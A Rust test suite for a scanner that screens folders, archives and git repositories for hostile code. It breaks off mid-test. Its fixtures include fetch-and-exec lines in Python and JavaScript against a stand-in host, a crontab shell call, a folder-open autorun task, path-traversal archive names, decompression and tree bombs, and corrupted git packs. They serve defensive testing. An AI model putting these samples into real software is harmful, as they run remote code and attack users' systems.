//! `screen` on folders and archives, good and hostile: exit codes, what is listed as not inspected, and that nothing is run.

use std::io::Write as _;
use std::path::Path;

use bitcoin::hashes::{Hash as _, sha256};
use serde_json::Value;

use crate::command::Desk;

fn put(desk: &Desk, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = desk.dir.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

/// Whether an answer is as its schema says.
fn fits(found: &Value) {
    let schema =
        serde_json::from_str(include_str!("../../../../docs/schemas/screen.json")).unwrap();
    testkit::schema::fits(&schema, found, "screen");
}

const BAD: &str = "import requests\nexec(requests.get('https://a.invalid/x').text)\n";
const GOOD: &str = "print('hello')\n";

fn missed(found: &Value) -> Vec<(String, String)> {
    let list = found["not_inspected"].as_array().unwrap().iter();
    list.map(|m| (m["file"].as_str().unwrap().to_owned(), m["reason"].as_str().unwrap().to_owned()))
        .collect()
}

fn zip(path: &Path, members: &[(&str, &[u8])]) {
    let mut writer = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    for (name, bytes) in members {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap();
}

fn tar_gz(members: &[(&str, &[u8])]) -> Vec<u8> {
    let encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(encoder);
    for (name, bytes) in members {
        let mut header = tar::Header::new_ustar();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        // Written as it is: a builder would refuse what a thief would not.
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.set_cksum();
        builder.append(&header, *bytes).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

#[test]
fn the_exit_code_is_the_worst_judgement() {
    let desk = Desk::new();
    let open = "{\"tasks\":[{\"command\":\"npm\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}";
    put(
        &desk,
        &[
            ("bad/main.py", BAD),
            ("good/main.py", GOOD),
            ("odd/.vscode/tasks.json", open),
            ("part/main.py", GOOD),
            ("part/index.rb", "puts 1"),
        ],
    );
    for (line, code, verdict) in [
        ("screen bad", 10, "block"),
        ("screen odd", 11, "review"),
        ("screen part", 3, "incomplete"),
        ("screen good", 0, "no_findings"),
        ("screen odd --fail-on block", 0, "review"),
        ("screen bad --fail-on block", 10, "block"),
    ] {
        let (found, json) = desk.run(line);
        assert_eq!((found, &json["verdict"]), (code, &verdict.into()), "{line}: {json}");
        assert_eq!(json["sandbox"]["seccomp"], true, "{line}");
        assert!(json["sandbox"]["landlock_abi"].as_u64().unwrap() >= 1);
        assert_eq!(json["tree_sha256"].as_str().unwrap().len(), 64);
    }
    // Of several paths the worst, a document each.
    assert_eq!(desk.run("screen good part odd bad").0, 10);
    assert_eq!(desk.run("screen good part odd").0, 11);
    assert_eq!(desk.run("screen good part").0, 3);
    assert_eq!(desk.run("screen nothing-there").0, 2);
    let (code, json) = desk.run("screen good --no-sandbox");
    assert_eq!((code, &json["sandbox"]["seccomp"]), (0, &false.into()));
    // The finding has all that the contract names.
    let finding = &desk.run("screen bad").1["findings"][0];
    for member in [
        "rule",
        "title",
        "severity",
        "confidence",
        "fires",
        "blocks_by",
        "file",
        "line",
        "column",
        "excerpt",
        "flow",
        "attack",
        "why",
        "check",
    ] {
        assert!(!finding[member].is_null(), "{member}");
    }
    assert_eq!(finding["blocks_by"], "B1");
}

#[test]
fn archives_are_read_in_memory_and_hostile_members_are_listed() {
    let desk = Desk::new();
    zip(&desk.dir.join("a.whl"), &[("app/main.py", BAD.as_bytes()), ("data.txt", b"x")]);
    let (code, json) = desk.run("screen a.whl");
    assert_eq!((code, &json["findings"][0]["file"]), (10, &"a.whl!/app/main.py".into()));
    // An archive in an archive.
    let inner = tar_gz(&[("pkg/main.py", BAD.as_bytes())]);
    zip(&desk.dir.join("b.zip"), &[("inner.tgz", &inner)]);
    assert_eq!(desk.run("screen b.zip").0, 10);
    // Names that lead out, lengths that lie, bombs, what is no archive at all.
    zip(
        &desk.dir.join("c.zip"),
        &[("../../climbs.py", GOOD.as_bytes()), ("ok.py", GOOD.as_bytes())],
    );
    let (code, json) = desk.run("screen c.zip");
    assert_eq!((code, &missed(&json)[0].1[..]), (3, "a name that leads out"));
    let climbs = tar_gz(&[("/absolute.py", GOOD.as_bytes()), ("../up.py", GOOD.as_bytes())]);
    std::fs::write(desk.dir.join("d.tar.gz"), climbs).unwrap();
    assert_eq!(missed(&desk.run("screen d.tar.gz").1).len(), 2);
    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..600 {
        bomb.write_all(&[b'x'; 1 << 20]).unwrap();
    }
    std::fs::write(desk.dir.join("e.gz"), bomb.finish().unwrap()).unwrap();
    let (code, json) = desk.run("screen e.gz");
    assert_eq!((code, missed(&json)[0].1.as_str()), (3, "over a limit: tree-mib"));
    std::fs::write(desk.dir.join("f.zip"), b"PK\x03\x04 and nothing more").unwrap();
    assert_eq!(missed(&desk.run("screen f.zip").1)[0].1, "unreadable");
    // Other compressions, two frames and streams of them, and what only begins like one.
    let tar = {
        let mut tar = Vec::new();
        std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&inner[..]), &mut tar)
            .unwrap();
        tar
    };
    let (first, second) = tar.split_at(700);
    let xz = |bytes: &[u8]| {
        let options = lzma_rust2::XzOptions::with_preset(1);
        let mut writer = lzma_rust2::XzWriter::new(Vec::new(), options).unwrap();
        writer.write_all(bytes).unwrap();
        writer.finish().unwrap()
    };
    let zst = |bytes: &[u8]| {
        ruzstd::encoding::compress_to_vec(bytes, ruzstd::encoding::CompressionLevel::Fastest)
    };
    let bz2 = |bytes: &[u8]| {
        let mut writer = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
        writer.write_all(bytes).unwrap();
        writer.finish().unwrap()
    };
    for (name, packed) in [
        ("g.tar.xz", [xz(first), xz(second)].concat()),
        ("g.tar.zst", [zst(first), zst(second)].concat()),
        ("g.tar.bz2", [bz2(first), bz2(second)].concat()),
    ] {
        std::fs::write(desk.dir.join(name), &packed).unwrap();
        let (code, json) = desk.run(&format!("screen {name}"));
        assert_eq!(
            (code, &json["findings"][0]["file"]),
            (10, &"g.tar!/pkg/main.py".into()),
            "{name}: {json}"
        );
        std::fs::write(desk.dir.join(name), &packed[..packed.len() / 3]).unwrap();
        let (code, json) = desk.run(&format!("screen {name}"));
        assert_eq!((code, missed(&json)[0].1.as_str()), (3, "unreadable"), "{name}: {json}");
    }
}

#[test]
fn links_and_odd_files_of_a_folder_are_listed_and_not_followed() {
    let desk = Desk::new();
    put(&desk, &[("tree/main.py", GOOD), ("secret.py", BAD)]);
    std::os::unix::fs::symlink("../secret.py", desk.dir.join("tree/link.py")).unwrap();
    // What a link inside leads to is read under the name that the link gives it.
    std::os::unix::fs::symlink("notes.txt", desk.dir.join("tree/inside.py")).unwrap();
    put(&desk, &[("tree/notes.txt", BAD), ("tree/sub/x", "")]);
    std::os::unix::fs::symlink("sub", desk.dir.join("tree/.vscode")).unwrap();
    let made = std::process::Command::new("mkfifo").arg(desk.dir.join("tree/pipe.py")).status();
    assert!(made.unwrap().success());
    let (code, json) = desk.run("screen tree");
    let listed = missed(&json);
    assert_eq!((code, &json["findings"][0]["file"]), (10, &"inside.py".into()));
    assert!(listed.contains(&("link.py".into(), "a link that leads out".into())), "{listed:?}");
    assert!(listed.contains(&("pipe.py".into(), "a device or pipe".into())), "{listed:?}");
    assert!(listed.contains(&(".vscode".into(), "a link to a folder".into())), "{listed:?}");
    assert_eq!(listed.len(), 3);
}

#[test]
fn code_that_is_hostile_to_parsers_ends_in_an_entry() {
    let desk = Desk::new();
    let deep = format!("x = {}1{}\n", "f(".repeat(3_000), ")".repeat(3_000));
    let sum = format!("x = {}\n", vec!["1"; 400_000].join("+"));
    let long = format!("x = '{}'\n", "a".repeat(9 << 20));
    let script = format!("x = {}1{}\n", "f(".repeat(3_000), ")".repeat(3_000));
    let shell = format!("echo {}1{}\n", "$(echo ".repeat(2_000), ")".repeat(2_000));
    put(
        &desk,
        &[
            ("a/deep.py", &deep),
            ("a/sum.py", &sum),
            ("a/long.py", &long),
            ("a/bad.py", "def (:\n"),
            ("a/deep.js", &script),
            ("a/bad.ts", "let = = ;\n"),
            ("a/deep.sh", &shell),
        ],
    );
    let (code, json) = desk.run("screen a");
    let listed = missed(&json);
    assert_eq!(code, 3, "{json}");
    for (file, reason) in [
        ("deep.py", "code nested too deeply to be followed"),
        ("sum.py", "code nested too deeply to be followed"),
        ("long.py", "over a limit: code-mib"),
        ("bad.py", "unparsable source, line 1"),
        ("deep.js", "code nested too deeply to be followed"),
        ("bad.ts", "unparsable source, line 1"),
        ("deep.sh", "unparsable source, line 1"),
    ] {
        assert!(listed.contains(&(file.to_owned(), reason.to_owned())), "{file}: {listed:?}");
    }
}

#[test]
fn sarif_names_rules_places_and_what_was_not_read() {
    let desk = Desk::new();
    put(&desk, &[("bad/main.py", BAD), ("bad/x.rb", "1"), ("bad/a b/c:ü%.py", BAD)]);
    let output = std::process::Command::new(crate::command::EXE)
        .args(["screen", "bad", "--format", "sarif"])
        .current_dir(&desk.dir)
        .output()
        .unwrap();
    let sarif: Value = serde_json::from_slice(&output.stdout).unwrap();
    // The schema of the standard, as OASIS publishes it.
    let schema = include_str!("../fixtures/sarif-schema-2.1.0.json");
    testkit::schema::fits(&serde_json::from_str(schema).unwrap(), &sarif, "SARIF");
    let run = &sarif["runs"][0];
    assert_eq!((&sarif["version"], output.status.code()), (&"2.1.0".into(), Some(10)));
    // A path is a reference (RFC 3986), whatever is in it.
    let of = |r: &Value| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].clone();
    let results = run["results"].as_array().unwrap();
    assert!(results.iter().any(|r| of(r) == "a%20b/c%3A%C3%BC%25.py"), "{results:?}");
    let result = results.iter().find(|r| of(r) == "main.py").unwrap();
    assert_eq!(
        (&result["ruleId"], &result["level"]),
        (&"network-to-interpreter".into(), &"error".into())
    );
    let region = &result["locations"][0]["physicalLocation"]["region"];
    assert_eq!(region["startLine"], 2);
    assert!(result["codeFlows"][0]["threadFlows"][0]["locations"].as_array().unwrap().len() >= 2);
    let rules: Vec<&str> = run["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"network-to-interpreter"));
    let notes = run["invocations"][0]["toolExecutionNotifications"].as_array().unwrap();
    assert!(notes[0]["message"]["text"].as_str().unwrap().contains("x.rb"));
    // And the rules can be read.
    let rule = desk.ok("screen rules network-to-interpreter");
    assert_eq!(rule[0]["id"], "network-to-interpreter");
    assert_eq!(desk.ok("screen rules").as_array().unwrap().len(), rules.len());
    assert_eq!(desk.run("screen rules no-such-rule").0, 2);
}

/// Runs git in a folder, with nobody's settings.
fn git(dir: &Path, line: &str) -> String {
    let output = std::process::Command::new("git")
        .args(["-c", "user.name=n", "-c", "user.email=n@a.invalid", "-c", "commit.gpgsign=false"])
        .args(line.split(' '))
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap())
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// A repository whose main branch is clean and whose other branch is not: the line that runs what it fetches stands at the
/// end of a long file, of which there are many versions.
fn two_branches(desk: &Desk) -> std::path::PathBuf {
    let dir = desk.dir.join("repo");
    // Each version is shorter than the one before, and a little more of it is new: git makes deltas upon deltas of them.
    let long = |n: usize| -> String {
        let mark = |l: usize| if l < 9 * n { l * 7_919 % 10_007 } else { 0 };
        (0..430 - n).map(|l| format!("# line {l} of prices {}\n", mark(l))).collect()
    };
    put(desk, &[("repo/main.py", GOOD), ("repo/prices.py", &long(0))]);
    git(&dir, "init -q -b main .");
    git(&dir, "add .");
    git(&dir, "commit -q -m one");
    git(&dir, "checkout -q -b feature");
    for n in 1..30 {
        let end = if n == 29 { BAD } else { "" };
        put(desk, &[("repo/prices.py", &format!("{}{end}", long(n)))]);
        git(&dir, "commit -q -a -m more");
    }
    git(&dir, "checkout -q main");
    dir
}

#[test]
fn branches_that_nobody_has_checked_out_are_read() {
    let desk = Desk::new();
    let dir = two_branches(&desk);
    let asked = |exit: i32| -> Value {
        let (code, found) = desk.run("screen repo");
        assert_eq!(code, exit, "{found}");
        found
    };
    let told = |found: &Value| {
        let one = &found["findings"][0];
        assert_eq!(one["file"], ".git!/refs/heads/feature/prices.py");
        assert_eq!((&one["line"], &one["blocks_by"]), (&403.into(), &"B1".into()));
        assert_eq!(missed(found), []);
    };
    told(&asked(10));
    // The same out of a pack, as deltas, with refs in one file; and by offset or by name of what a delta is upon.
    git(&dir, "pack-refs --all");
    git(&dir, "repack -q -a -d -f --depth=50 --window=50");
    let pack = std::fs::read_dir(dir.join(".git/objects/pack")).unwrap();
    let pack = pack.map(|e| e.unwrap().path()).find(|p| p.extension().unwrap() == "pack").unwrap();
    let listed = git(&dir, &format!("verify-pack -v {}", pack.display()));
    assert!(
        listed.contains("chain length = 5"),
        "deltas upon deltas are what this is about: {listed}"
    );
    told(&asked(10));
    git(&dir, "-c repack.usedeltabaseoffset=false repack -q -a -d -f");
    told(&asked(10));
    // A tag keeps what no branch has.
    git(&dir, "tag -a -m v v1 feature");
    git(&dir, "branch -q -D feature");
    let found = asked(10);
    assert_eq!(found["findings"][0]["file"], ".git!/refs/tags/v1/prices.py");
    // Nothing leads there: it is not on anybody's way, and main is clean.
    git(&dir, "tag -d v1");
    std::fs::remove_file(dir.join(".git/info/refs")).unwrap();
    let found = asked(0);
    assert_eq!((&found["verdict"], missed(&found)), (&"no_findings".into(), Vec::new()));
}

#[test]
fn a_repository_that_is_broken_or_not_whole_is_listed() {
    let desk = Desk::new();
    let dir = two_branches(&desk);
    git(&dir, "repack -q -a -d");
    let pack = std::fs::read_dir(dir.join(".git/objects/pack")).unwrap();
    let pack = pack.map(|e| e.unwrap().path()).find(|p| p.extension().unwrap() == "pack").unwrap();
    let whole = std::fs::read(&pack).unwrap();
    let (mut told, mut asked) = (0, 0);
    for nth in 0..40 {
        let mut bytes = whole.clone();
        let at = 12 + nth * (bytes.len() - 32) / 40;
        bytes[at] ^= 0x55;
        std::fs::remove_file(&pack).unwrap();
        std::fs::write(&pack, &bytes).unwrap();
        let (code, found) = desk.run("screen repo");
        let why = missed(&found);
        assert!(why.iter().all(|(_, why)| !why.contains("crash")), "byte {at}: {why:?}");
        // Either nothing leads there, and all is as it was, or what could not be read is told.
        match code {
            10 => assert_eq!(found["findings"][0]["line"], 403),
            3 => told += i32::from(why.iter().any(|(file, _)| file.starts_with(".git!/refs/"))),
            _ => panic!("byte {at}: {found}"),
        }
        asked += i32::from(code == 3);
    }
    assert!(told > 0 && told == asked, "{told} of {asked}");
    std::fs::remove_file(&pack).unwrap();
    std::fs::write(&pack, &whole[..whole.len() / 2]).unwrap();
    assert_eq!(desk.run("screen repo").0, 3);
    fits(&desk.run("screen repo").1);
    // A submodule that nobody fetched, and a link that leads out.
    let other = desk.dir.join("other");
    put(&desk, &[("other/main.py", GOOD)]);
    std::os::unix::fs::symlink("../../x", other.join("away")).unwrap();
    git(&other, "init -q -b main .");
    git(&other, "add .");
    git(&other, &format!("update-index --add --cacheinfo 160000,{},lib", "1".repeat(40)));
    git(&other, "commit -q -m one");
    let (code, found) = desk.run("screen other");
    let all = missed(&found);
    assert_eq!(code, 3);
    let has = |file: &str, why: &str| all.iter().any(|(f, w)| f == file && w == why);
    assert!(has(".git!/refs/heads/main/lib", "a submodule that is not here"), "{all:?}");
    assert!(has(".git!/refs/heads/main/away", "a link that leads out"), "{all:?}");
}

#[test]
fn what_was_looked_at_is_suppressed_as_long_as_it_is_the_same() {
    let desk = Desk::new();
    let fetch =
        "import requests\ndef get():\n    return requests.get('https://a.invalid/x').text\n";
    let run = "from get import get\nexec(get())\n";
    put(&desk, &[("t/get.py", fetch), ("t/run.py", run)]);
    let sha256 = |text: &str| sha256::Hash::hash(text.as_bytes()).to_string();
    let entry = |path: &str, text: &str| {
        format!(
            "- path: {path}\n  rule: network-to-interpreter\n  sha256: {}\n  why: seen\n",
            sha256(text)
        )
    };
    let both = format!("{}{}", entry("get.py", fetch), entry("run.py", run));
    desk.write("both.yaml", &both);
    desk.write("one.yaml", entry("run.py", run));
    let found = desk.ok("screen t --suppress both.yaml");
    assert_eq!(found["findings"], serde_json::json!([]));
    assert_eq!(found["suppressed"][0]["file"], "run.py");
    fits(&found);
    fits(&desk.run("screen t").1);
    // A file of its way that nobody looked at; another byte; other rules.
    assert_eq!(desk.run("screen t --suppress one.yaml").0, 10);
    put(&desk, &[("t/get.py", &fetch.replace("/x", "/y"))]);
    assert_eq!(desk.run("screen t --suppress both.yaml").0, 10);
    // A file that says less than all is no file of suppressions.
    for bad in [
        "- path: a\n  rule: network-to-shell\n  why: x\n".to_owned(),
        both.replace("network-to-interpreter", "no-such-rule"),
        both.replace("why: seen", "why: ''"),
        both.replace("sha256: ", "sha256: 0"),
        both.replace("why: seen", "why: seen\n  until: 2030"),
        "{".to_owned(),
    ] {
        desk.write("bad.yaml", &bad);
        assert_eq!(desk.run("screen t --suppress bad.yaml").0, 2, "{bad}");
    }
    assert_eq!(desk.run("screen t --suppress none.yaml").0, 2);
}

#[test]
fn beside_its_upstream_only_what_differs_is_told() {
    let desk = Desk::new();
    let odd = "import subprocess\nsubprocess.run('crontab -', shell=True)\n";
    let own: [(&str, &[u8]); 3] = [
        ("lib-1/lib/run.py", BAD.as_bytes()),
        ("lib-1/lib/odd.unknown", b"\x01\x02"),
        ("lib-1/setup.py", GOOD.as_bytes()),
    ];
    desk.write("lib.tar.gz", tar_gz(&own));
    for (name, bytes) in own {
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        put(&desk, &[(&name.replace("lib-1/", "copy/"), &text)]);
    }
    assert_eq!(desk.run("screen copy").0, 10);
    let found = desk.ok("screen copy --upstream lib.tar.gz");
    assert_eq!(
        found["upstream"],
        serde_json::json!({"same": 3, "changed": [], "added": [], "missing": []})
    );
    fits(&found);
    // What was put in is told, and so is a way over it.
    put(&desk, &[("copy/setup.py", odd)]);
    let (code, found) = desk.run("screen copy --upstream lib.tar.gz");
    assert_eq!((code, &found["upstream"]["changed"]), (11, &serde_json::json!(["setup.py"])));
    assert!(found["findings"].as_array().unwrap().iter().all(|f| f["file"] == "setup.py"));
    // The file that says where its bytes come from differs, and not one on the way.
    let (way, near, far) = (
        "import json, requests\nexec(requests.get(json.load(open('c.json'))['url']).text)\n",
        "{\"url\": \"http://localhost/x\"}",
        "{\"url\": \"https://a.invalid/x\"}",
    );
    put(
        &desk,
        &[("up/run.py", way), ("up/c.json", near), ("own/run.py", way), ("own/c.json", far)],
    );
    assert_eq!(desk.run("screen up").0, 11);
    assert_eq!(desk.run("screen own --upstream up").0, 10);
    assert_eq!(desk.run("screen up --upstream up").0, 0);
    // The same bytes at another place are another thing.
    put(&desk, &[("copy/setup.py", GOOD), ("copy/conftest.py", BAD)]);
    assert_eq!(desk.run("screen copy --upstream lib.tar.gz").0, 10);
    assert_eq!(desk.run("screen copy --upstream nothing").0, 2);
}

#[test]
fn the_recipe_for_a_server_refuses_what_would_be_blocked() {
    let desk = Desk::new();
    let docs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/screening.md");
    let docs = std::fs::read_to_string(docs).unwrap();
    let lines =
        docs.lines().skip_while(|l| *l != "    #!/bin/sh").take_while(|l| l.starts_with("    "));
    let hook: String = lines.map(|l| format!("{}\n", &l[4..])).collect();
    assert!(hook.ends_with("exit \"$status\"\n"), "{hook}");
    git(&desk.dir, "init -q --bare server");
    let path = desk.dir.join("server/hooks/pre-receive");
    let exe = Path::new(env!("CARGO_BIN_EXE_countersign")).parent().unwrap();
    let hook = hook.replacen('\n', &format!("\nPATH={}:$PATH\n", exe.display()), 1);
    std::fs::write(&path, hook).unwrap();
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let dir = desk.dir.join("work");
    put(&desk, &[("work/main.py", GOOD)]);
    git(&dir, "init -q -b main .");
    git(&dir, "add .");
    git(&dir, "commit -q -m one");
    git(&dir, "push -q ../server main");
    // What a pushed file says is to be left out of archives, or written in other letters, is looked at as it is.
    let attributes = "bad.py export-ignore\n*.py working-tree-encoding=UTF-16\n";
    put(&desk, &[("work/bad.py", BAD)]);
    git(&dir, "add .");
    put(&desk, &[("work/.gitattributes", attributes)]);
    git(&dir, "add .gitattributes");
    git(&dir, "commit -q -m two");
    let push = std::process::Command::new("git")
        .args(["push", "-q", "../server", "main", "main:other"])
        .current_dir(&dir)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&push.stderr).into_owned();
    assert!(!push.status.success() && said.contains("bad.py:2"), "{said}");
    let server = desk.dir.join("server");
    assert_eq!(git(&server, "for-each-ref").lines().count(), 1);
    assert_eq!(git(&server, "rev-parse main"), git(&dir, "rev-parse main~1"));
    // Taking a branch away is nobody's flow.
    git(&dir, "push -q ../server :main");
}

#[test]
fn what_only_looks_like_a_repository_hides_nothing() {
    let desk = Desk::new();
    // Files among the objects that are none.
    put(
        &desk,
        &[
            ("fake/.git/HEAD", "ref: refs/heads/main\n"),
            (
                "fake/.git/objects/x.js",
                "fetch('https://a.invalid/x').then(r => r.text()).then(eval)",
            ),
            ("fake/.git/objects/ab/cdefabcdefabcdefabcdefabcdefabcdefabcd", BAD),
            ("bare/HEAD", "ref: refs/heads/main\n"),
            ("bare/refs/x", ""),
            ("bare/objects/main.py", BAD),
        ],
    );
    assert_eq!(missed(&desk.run("screen fake").1).len(), 2);
    assert_eq!(desk.run("screen bare").0, 10);
    // A branch that leads to a file which is no branch by its name.
    let dir = two_branches(&desk);
    let id = git(&dir, "rev-parse feature");
    put(&desk, &[("repo/.git/x/HEAD", &id), ("repo/.git/refs/heads/dev", "ref: x/HEAD\n")]);
    git(&dir, "branch -q -D feature");
    assert_eq!(desk.run("screen repo").0, 10);
    put(&desk, &[("repo/.git/x/HEAD", "x"), ("repo/.git/refs/heads/dev", "ref: y\n")]);
    let why = missed(&desk.run("screen repo").1);
    assert!(
        why.contains(&(".git!/refs/heads/dev".into(), "a ref that leads nowhere".into())),
        "{why:?}"
    );
    // Trees of trees: ten times ten times ten and so on.
    let dir = desk.dir.join("bomb");
    put(&desk, &[("bomb/main.py", BAD)]);
    git(&dir, "init -q -b main .");
    let write = |args: &[&str], text: &str| -> String {
        use std::process::{Command, Stdio};
        let mut child = Command::new("git")
            .args(args)
            .current_dir(&dir)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
        let out = child.wait_with_output().unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    };
    let mut id = write(&["hash-object", "-w", "--stdin"], "x");
    let mut kind = ("100644", "blob");
    for _ in 0..10 {
        let text: String = (0..10).map(|n| format!("{} {} {id}\t{n}\n", kind.0, kind.1)).collect();
        id = write(&["mktree"], &text);
        kind = ("040000", "tree");
    }
    put(&desk, &[("bomb/.git/refs/tags/bomb", &id)]);
    let (code, found) = desk.run("screen bomb");
    assert_eq!((code, &found["findings"][0]["file"]), (10, &"main.py".into()));
    assert!(missed(&found).contains(&(".git!/refs/tags/bomb".into(), "over a limit".into())));
}

#[test]
fn two_files_of_one_name_are_both_read() {
    let desk = Desk::new();
    let packed = |text: &str| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(text.as_bytes()).unwrap();
        encoder.finish().unwrap()
    };
    put(&desk, &[("t/main.py", BAD)]);
    desk.write("t/main.py.gz", packed(GOOD));
    let (code, found) = desk.run("screen t");
    assert_eq!(code, 10);
    assert_eq!(missed(&found), [("main.py".into(), "another file of this name is there".into())]);
}

#[test]
fn a_branch_goes_on_in_files_that_it_did_not_change() {
    let desk = Desk::new();
    let lib = "module.exports = async (u) => eval(await (await fetch(u)).text());\n";
    let dir = desk.dir.join("r");
    put(&desk, &[("r/lib.js", lib), ("r/i.js", "console.log(1)\n")]);
    git(&dir, "init -q -b main .");
    git(&dir, "add .");
    git(&dir, "commit -q -m one");
    git(&dir, "checkout -q -b dev");
    put(&desk, &[("r/i.js", "require('./lib')('https://a.invalid/x')\n")]);
    git(&dir, "commit -q -a -m two");
    git(&dir, "checkout -q main");
    let (code, found) = desk.run("screen r");
    assert_eq!((code, &found["findings"][0]["blocks_by"]), (10, &"B1".into()), "{found}");
}

#[test]
fn refs_are_what_git_takes_for_them() {
    let desk = Desk::new();
    let dir = two_branches(&desk);
    let id = git(&dir, "rev-parse feature").trim().to_owned();
    git(&dir, "branch -q -D feature");
    std::fs::remove_dir_all(dir.join(".git/logs")).unwrap();
    assert_eq!(desk.run("screen repo").0, 0);
    // Much behind the number; a place that is not for refs, by itself and through a ref.
    for (name, text) in [
        ("refs/heads/long", format!("{id}\n{}", " ".repeat(4_000))),
        ("info/x", id.clone()),
        ("logs/x", format!("{id}\n")),
        ("x/y", id.clone()),
    ] {
        let path = format!("repo/.git/{name}");
        put(&desk, &[(&path, &text)]);
        // It is one: git says so itself.
        let short = name.trim_start_matches("refs/heads/");
        assert_eq!(git(&dir, &format!("rev-parse {short}")).trim(), id, "{name}");
        assert_eq!(desk.run("screen repo").0, 10, "{name}");
        std::fs::remove_file(desk.dir.join(path)).unwrap();
    }
}

#[test]
fn an_index_of_a_pack_that_lies_is_told() {
    let desk = Desk::new();
    let dir = two_branches(&desk);
    git(&dir, "repack -q -a -d");
    let blob = |at: &str| git(&dir, &format!("rev-parse {at}:prices.py")).trim().to_owned();
    let (good, bad) = (blob("main"), blob("feature"));
    git(&dir, "branch -q -D feature");
    let pack = std::fs::read_dir(dir.join(".git/objects/pack")).unwrap();
    let index = pack.map(|e| e.unwrap().path()).find(|p| p.extension().unwrap() == "idx").unwrap();
    let mut bytes = std::fs::read(&index).unwrap();
    // Version 2: 8 bytes, 256 counts, names, checksums, places.
    let count = u32::from_be_bytes(bytes[8 + 255 * 4..8 + 256 * 4].try_into().unwrap()) as usize;
    let names = 8 + 256 * 4;
    let place = |id: &str| {
        let nth = (0..count).find(|n| {
            let name = &bytes[names + n * 20..names + n * 20 + 20];
            name.iter().map(|b| format!("{b:02x}")).collect::<String>() == id
        });
        names + count * 24 + nth.unwrap() * 4
    };
    let (good, bad) = (place(&good), place(&bad));
    bytes.copy_within(bad..bad + 4, good);
    std::fs::remove_file(&index).unwrap();
    std::fs::write(&index, &bytes).unwrap();
    std::fs::remove_file(dir.join(".git/info/refs")).unwrap();
    // What lies in the working tree has the name of the file that anybody gets who checks it out.
    std::fs::remove_dir_all(dir.join(".git/logs")).unwrap();
    let (code, found) = desk.run("screen repo");
    let why = missed(&found);
    let lies = |(_, why): &(String, String)| why == "an object that is not what its name says";
    assert!(code == 3 && why.iter().any(lies), "{code} {why:?}");
}

#[test]
fn a_zip_with_two_members_of_one_name_is_not_whole() {
    let desk = Desk::new();
    zip(&desk.path("a.zip"), &[("main.py", BAD.as_bytes()), ("mein.py", GOOD.as_bytes())]);
    assert_eq!(desk.run("screen a.zip").0, 10);
    let mut bytes = std::fs::read(desk.path("a.zip")).unwrap();
    for at in 0..bytes.len() - 7 {
        if &bytes[at..at + 7] == b"mein.py" {
            bytes[at + 1] = b'a';
        }
    }
    // And an end of another directory in what is said about it.
    let mut said = b"PK\x05\x06".to_vec();
    said.extend([0, 0, 0, 0, 1, 0, 1, 0]);
    let mut commented = bytes.clone();
    let len = commented.len();
    commented[len - 2..].copy_from_slice(&u16::try_from(said.len()).unwrap().to_le_bytes());
    commented.extend(said);
    for whole in [bytes, commented] {
        desk.write("b.zip", whole);
        let (code, found) = desk.run("screen b.zip");
        assert!(matches!(code, 3 | 10) && !missed(&found).is_empty(), "{found}");
    }
}

#[test]
fn limits_are_set_and_what_is_over_them_is_listed() {
    let desk = Desk::new();
    let long = format!("{GOOD}{}", "# more\n".repeat(200_000));
    put(&desk, &[("r/a.py", GOOD), ("r/b.py", &long), ("r/c.py", &long), ("r/d.py", BAD)]);
    assert_eq!(desk.run("screen r").0, 10);
    std::fs::remove_file(desk.path("r/d.py")).unwrap();
    assert_eq!(desk.run("screen r").0, 0);
    for (limit, over) in [
        ("file-mib=1", vec![("b.py", "over a limit: file-mib")]),
        ("code-mib=1", vec![("b.py", "over a limit: code-mib")]),
        ("all-code-mib=2", vec![("c.py", "over a limit: all-code-mib")]),
        ("files=1", vec![]),
    ] {
        let (code, found) = desk.run(&format!("screen r --limit {limit}"));
        let missed = missed(&found);
        assert!(code == 3 && !missed.is_empty(), "{limit} {found}");
        for (file, reason) in over {
            assert!(missed.contains(&(file.to_owned(), reason.to_owned())), "{limit} {missed:?}");
        }
    }
    assert_eq!(desk.run("screen r --limit code-mib=2 --limit all-code-mib=4").0, 0);
    for wrong in ["files", "files=0", "memory-mib=1", "nobody=1"] {
        assert_eq!(desk.run(&format!("screen r --limit {wrong}")).0, 2, "{wrong}");
    }
}

#[test]
fn what_nobody_reads_is_not_let_through_by_a_finding_beside_it() {
    let desk = Desk::new();
    let odd = "x = 1;".to_owned() + &" ".repeat(300) + "print(1)\n";
    put(
        &desk,
        &[("a/a.php", "<?php 1;"), ("b/odd.py", &odd), ("c/a.php", "1"), ("c/odd.py", &odd)],
    );
    assert_eq!(desk.run("screen b").0, 11);
